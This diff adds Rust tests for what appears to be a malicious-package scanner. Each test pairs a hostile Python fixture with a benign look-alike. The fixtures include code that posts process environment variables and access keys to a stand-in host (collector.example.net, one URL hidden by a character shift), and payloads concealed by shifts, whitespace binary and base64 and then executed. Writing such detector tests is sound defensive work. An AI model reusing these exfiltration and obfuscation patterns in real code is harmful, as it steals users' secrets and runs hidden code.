@@ -881,3 +881,165 @@ def main():
     assert!(critical(&f).is_empty(), "{f:#?}");
     assert!(!has(&f, "webhook-url"), "{f:#?}");
 }
+
+#[test]
+fn process_environment_read_from_proc_and_posted_to_a_fixed_host_is_critical() {
+    // /proc/self/environ is every environment variable at once, read as a file
+    let src = r#"
+import requests
+
+def send_environ():
+    with open('/proc/self/environ', 'rb') as f:
+        environ_data = f.read().decode('utf-8').replace('\x00', '\n')
+    requests.post("https://collector.example.net/log", data={'environment': environ_data})
+
+send_environ()
+"#;
+    let f = run("pkg/flag.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // a process inspector reading a process's environment to show it: nothing is sent
+    let benign = r#"
+def environ(pid="self"):
+    with open(f"/proc/{pid}/environ", "rb") as f:
+        data = f.read()
+    return dict(kv.split(b"=", 1) for kv in data.split(b"\0") if b"=" in kv)
+
+def show():
+    print(environ())
+"#;
+    let f = run("pkg/procinfo.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn keys_posted_to_a_decoded_url_behind_an_environment_override_are_critical() {
+    // the destination is hidden (shifted and reversed) and only nominally configurable:
+    // the environment variable's default is the decoded URL
+    let src = r#"
+import os
+from urllib import request
+
+def get_client(access_key, secret_key, region):
+    uc = "vzd2whq1hospd{h1urwfhoorf22=vswwk"
+    endpoint = os.environ.get("MY_PKG_URL", ''.join(chr(ord(c)-3) for c in uc[::-1]))
+    client_data = {'day': access_key, 'month': secret_key}
+    req = request.Request(url=endpoint, method='POST', data=client_data)
+    try:
+        request.urlopen(req)
+    except Exception:
+        pass
+"#;
+    let f = run("tool/main.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // an SDK whose endpoint the environment may override, with a plain default
+    let benign = r#"
+import os
+from urllib import request
+
+def get_client(access_key, secret_key, region):
+    endpoint = os.environ.get("SERVICE_URL", "https://api.example.com/v1/session")
+    req = request.Request(url=endpoint, method='POST', data={'key': access_key, 'secret': secret_key})
+    return request.urlopen(req)
+"#;
+    let f = run("sdk/client.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn a_character_shift_of_data_is_decoding_a_shifted_constant_is_not() {
+    // a Caesar shift over a literal, then run
+    let src = "code = 'sulqw(1)'\nexec(''.join(chr((ord(c) - 97 - 3) % 26 + 97) if c.isalpha() else c for c in code))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
+    // spreadsheet columns named from a letter constant, in the URL of an upload
+    let benign = r#"
+import requests
+
+def upload(rows):
+    for i, row in enumerate(rows):
+        column = chr(ord('A') + i)
+        requests.post(f"https://sheets.example.com/v1/{column}1", json=row)
+"#;
+    let f = run("pkg/sheets.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn a_setup_script_decoder_that_evaluates_its_argument_is_critical() {
+    // the string obfuscator's helper in setup.py: shifts each character of its
+    // argument back and evaluates the result
+    let src = r#"
+def _d(s):
+    k = ord(s[-1])
+    return eval(''.join([chr(ord(ch) - 2048 - (i + k) % 7) for i, ch in enumerate(s[:-1])]))
+from setuptools import setup
+setup(name="x", version="1", description=_d(u"\u0827\u0864\u0877\u0803"))
+"#;
+    let f = run("x-1/setup.py", FileRole::SetupScript, src);
+    assert!(!critical(&f).is_empty(), "{f:#?}");
+    // a library function that decodes and evaluates what its caller hands it stays
+    // the caller's business
+    let library = "import base64\ndef load(blob):\n    return eval(base64.b64decode(blob).decode())\n";
+    let f = run("lib/serial.py", FileRole::Module, library);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn binary_digits_hidden_in_whitespace_and_run_are_critical() {
+    // spaces and tabs are zeros and ones: the payload is invisible in an editor
+    let payload = "open('/tmp/canary-marker', 'w').write('x')\n";
+    let bits: String = payload.bytes().map(|b| format!("{b:08b}")).collect();
+    let hidden: String = bits.chars().map(|c| if c == '0' { ' ' } else { '\t' }).collect();
+    let src = format!(
+        "s = {hidden:?}.replace(' ', '0').replace('\\t', '1')\nexec(bytes(int(s[i:i + 8], 2) for i in range(0, len(s), 8)).decode())\n"
+    );
+    let f = run("pkg/__init__.py", FileRole::PackageInit, &src);
+    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
+    // a firmware tool turning a hex dump into bytes and writing them out: nothing runs
+    let benign = r#"
+def hex_to_file(dump, path):
+    data = bytes(int(dump[i:i + 2], 16) for i in range(0, len(dump), 2))
+    with open(path, "wb") as f:
+        f.write(data)
+    return chr(int(dump[:2], 16))
+"#;
+    let f = run("tool/firmware.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn a_payload_decoded_in_a_method_of_a_class_defined_below_and_run_is_critical() {
+    // decoding and running split over two classes, the decoder defined after its user
+    let src = r#"
+import base64, types
+
+class Core:
+    def __init__(self):
+        source = Store()._entity()
+        types.FunctionType(compile(source, "<string>", "exec"), globals())()
+
+class Store:
+    blob = "b3BlbignL3RtcC9jYW5hcnktbWFya2VyJywgJ3cnKS53cml0ZSgneCcp"
+    def _entity(self):
+        return base64.b64decode(self.blob).decode()
+
+core = Core()
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
+    // a template class building the code it compiles from its own parts: built, not
+    // decoded, and a method's other labels stay with the method
+    let benign = r#"
+class Template:
+    def __init__(self, body):
+        self.body = body
+    def _source(self):
+        return "def render(ctx):\n    return " + repr(self.body) + "\n"
+    def compile(self):
+        ns = {}
+        exec(self._source(), ns)
+        return ns["render"]
+"#;
+    let f = run("tmpl/template.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
